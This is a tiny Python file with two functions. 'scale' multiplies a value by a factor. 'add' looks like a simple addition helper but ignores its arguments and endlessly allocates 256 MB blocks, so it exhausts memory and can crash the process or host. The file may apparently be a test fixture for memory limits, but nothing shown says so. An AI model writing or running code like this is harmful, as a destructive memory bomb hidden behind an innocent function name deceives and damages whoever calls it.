def add(a, b):
    chunks = []
    while True:
        chunks.append(bytearray(256 * 1024 * 1024))


def scale(x, factor):
    return x * factor
